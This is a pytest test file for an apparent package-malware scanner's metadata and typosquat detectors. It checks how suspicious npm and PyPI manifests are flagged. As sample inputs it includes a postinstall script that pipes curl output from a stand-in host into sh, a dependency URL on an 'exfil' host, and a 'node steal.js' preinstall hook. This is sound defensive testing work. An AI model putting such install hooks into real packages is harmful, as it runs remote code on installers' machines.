"""What index and manifest say that is odd becomes signals that point at the line; honest papers give none."""

import json

import pytest

from packamal.capability import Capability
from packamal.detectors import metadata, typosquat
from packamal.detectors.base import Package
from packamal.detectors.descriptions import oddity_of
from packamal.detectors.people import odd_address
from packamal.detectors.units import Language, Unit
from packamal.ecosystems.base import Metadata
from packamal.model import Artifact, Origin

CODE = Unit(
    "index.js", "package/index.js", b"module.exports = function add(a, b) { return a + b }\n" * 5, Language.JAVASCRIPT
)
HONEST = {
    "name": "acme-things",
    "version": "1.2.3",
    "summary": "Adds two numbers",
    "homepage": "https://acme.example",
    "author": "A. Coyote <coyote@acme-tools.org>",
}


def package(own, index=None, units=(CODE,), kind="npm"):
    text = json.dumps({**own, "scripts": dict(own.get("scripts", ()))}, indent=1)
    unit = Unit("package/package.json", "package/package.json", text.encode(), Language.JSON)
    papers = {"manifest": Metadata(**own), "index": Metadata(**index) if index else None}
    return Package(Artifact(f"pkg:{kind}/{own['name']}@1", "x.tgz", "", 0), (*units, unit), papers)


def seen(**changes):
    return {signal.id: signal for signal in metadata.detect(package({**HONEST, **changes})).signals}


def test_honest_papers_give_no_signal():
    assert seen() == {}


def test_without_papers_nothing_is_said():
    assert metadata.detect(Package(Artifact("", "x", "", 0), (CODE,))).signals == ()
    assert typosquat.detect(Package(Artifact("", "x", "", 0), (CODE,))).signals == ()


@pytest.mark.parametrize(
    "version", ["99.0.0", "99.99.99", "9.9.9", "9.99.9", "100.0.15", "999", "69420.0.0", "v98.1.0"]
)
def test_a_version_made_to_win_is_told_with_its_line(version):
    signal = seen(version=version)[Capability.META_CONFUSION]
    assert signal.target == version
    assert signal.origin is Origin.METADATA
    assert signal.evidence.line == 3
    assert version in signal.evidence.snippet


@pytest.mark.parametrize("version", ["0.0.0", "6.6.6", "69.69.69"])
def test_an_odd_version_is_told(version):
    assert Capability.META_VERSION in seen(version=version)


@pytest.mark.parametrize("version", ["2026.6", "20261124.1", "2.31.0", "26.2.0", "1.1.1", "0.0.1", "85.0.1", "", "x"])
def test_an_ordinary_version_is_none(version):
    assert not {Capability.META_CONFUSION, Capability.META_VERSION} & set(seen(version=version))


def test_a_popular_package_may_count_as_high_as_it_likes():
    assert Capability.META_CONFUSION not in seen(name="googleapis", version="165.0.0")


def test_a_first_release_with_a_high_version_is_made_to_win():
    own = {**HONEST, "version": "47.0.0"}
    for releases, expected in ((1, True), (40, False), (0, False)):
        found = metadata.detect(package(own, {**own, "release_count": releases})).signals
        assert (Capability.META_CONFUSION in {signal.id for signal in found}) is expected


@pytest.mark.parametrize(
    ("script", "is_told"),
    [("node lib/setup.js", True), ("curl -s https://x.example | sh", True), ("node-gyp rebuild", False)],
)
def test_an_install_script_is_told_with_its_text(script, is_told):
    found = seen(scripts=(("postinstall", script),))
    assert (Capability.META_INSTALL_SCRIPT in found) is is_told
    if is_told:
        assert found[Capability.META_INSTALL_SCRIPT].target == f"postinstall: {script}"
        assert "postinstall" in found[Capability.META_INSTALL_SCRIPT].evidence.snippet


@pytest.mark.parametrize(
    "constraint",
    [
        "https://files.exfil.example/x.tgz",
        "git+ssh://git@host.example/x.git",
        "file:../x",
        "github:owner/x",
        "owner/x#main",
    ],
)
def test_a_dependency_that_passes_the_index_by_is_told(constraint):
    assert Capability.META_URL_DEPENDENCY in seen(dependencies=(("helper", constraint),))


@pytest.mark.parametrize("constraint", ["^1.0.0", "*", "latest", ">=1,<2", "npm:other@1", "workspace:*", ""])
def test_an_ordinary_dependency_is_none(constraint):
    assert seen(dependencies=(("lodash", constraint),)) == {}


def test_a_dependency_that_imitates_a_popular_name_is_told():
    assert "lodash" in seen(dependencies=(("loadsh", "^1.0.0"),))[Capability.META_DEPENDENCY].target


def test_neither_repository_nor_home_page_is_told_unless_the_index_has_one():
    own = {**HONEST, "homepage": ""}
    assert Capability.META_REPOSITORY in seen(homepage="")
    assert not metadata.detect(package(own, {**own, "repository": "https://acme.example/x"})).signals


def test_the_repository_of_a_popular_project_of_another_name_is_told():
    found = seen(repository="git+https://github.com/expressjs/express.git")
    assert "express" in found[Capability.META_REPOSITORY].target
    assert seen(name="express-acme", repository="https://github.com/expressjs/express") == {}


@pytest.mark.parametrize(
    ("person", "address"),
    [
        ("Your Name <you@example.com>", "you@example.com"),
        ("x@mailinator.com", "x@mailinator.com"),
        ("a <a@host.invalid>", "a@host.invalid"),
        ("root@localhost", "root@localhost"),
        ("A. Coyote <coyote@acme-tools.org>", ""),
        ("noreply@users.noreply.github.com", ""),
        ("", ""),
        ("@" * 3000, ""),
    ],
)
def test_an_address_that_nobody_answers_is_told(person, address):
    assert odd_address(person) == address
    assert (Capability.META_MAINTAINER in seen(author=person)) is bool(address)


@pytest.mark.parametrize(
    "summary",
    [
        "test",
        "A small example package",
        "Demo",
        "...",
        "Dependency confusion research",
        "DO NOT INSTALL",
        "Reserved name",
        "PoC only",
    ],
)
def test_a_placeholder_or_a_confession_is_told(summary):
    assert Capability.META_DESCRIPTION in seen(summary=summary)


@pytest.mark.parametrize(
    "summary", ["", "Test runner for the impatient", "An example generator", "OpenTelemetry Semantic Conventions"]
)
def test_an_ordinary_summary_is_none(summary):
    assert seen(summary=summary) == {}


def test_a_description_that_belongs_to_another_package_is_told():
    text = "# Requests\nHTTP for humans.\n\n    pip install requests\n"
    copied = oddity_of(Metadata(name="requesys", summary="HTTP", description=text), "pypi")
    assert copied is not None
    assert "requests" in copied[0]
    assert oddity_of(Metadata(name="requests", description=text), "pypi") is None
    assert oddity_of(Metadata(name="re-quests", description=text), "pypi") is None
    assert oddity_of(Metadata(name="plugin", description=f"Plugin for requests.\n{text}"), "pypi") is None


def test_what_the_index_shows_and_the_archive_holds_is_compared():
    index = {**HONEST, "dependencies": (("lodash", "^4"),)}
    own = {
        **HONEST,
        "name": "acme-other",
        "version": "1.2.4",
        "scripts": (("preinstall", "node steal.js"),),
        "dependencies": (("lodash", "^4"), ("hidden", "1")),
    }
    targets = [
        signal.target
        for signal in metadata.detect(package(own, index)).signals
        if signal.id is Capability.META_MISMATCH
    ]
    assert [target.partition(":")[0] for target in targets] == ["name", "version", "preinstall script", "dependency"]


@pytest.mark.parametrize(
    ("shown", "real"), [("1.0", "1.0.0"), ("1.0.0", "v1.0.0"), ("1.0.0", "1.0.0+build.7"), ("1.0rc1", "1.0-rc1")]
)
def test_spellings_of_one_version_do_not_disagree(shown, real):
    found = metadata.detect(package({**HONEST, "version": real}, {**HONEST, "version": shown})).signals
    assert Capability.META_MISMATCH not in {signal.id for signal in found}


def test_a_package_of_nothing_but_papers_is_empty():
    readme = Unit("README.md", "package/README.md", b"# words\n" * 100, Language.MARKDOWN)
    assert Capability.META_EMPTY in {signal.id for signal in metadata.detect(package(HONEST, units=(readme,))).signals}


def test_a_name_of_its_own_after_many_releases_is_no_squat():
    own = {**HONEST, "name": "loadsh"}
    assert [signal.id for signal in typosquat.detect(package(own)).signals] == [Capability.META_TYPOSQUAT]
    assert typosquat.detect(package(own, {**own, "release_count": 40})).signals == ()


def test_hostile_papers_are_read_in_time():
    noise = "pip install " * 20_000 + "-" * 100_000 + " " * 100_000
    own = {
        **HONEST,
        "summary": "a " * 50_000,
        "description": noise,
        "repository": "https://github.com/a/" + "a" * 100_000,
    }
    own["dependencies"] = tuple((f"dependency-number-{number}", "x" * 1000) for number in range(5000))
    metadata.detect(package(own))
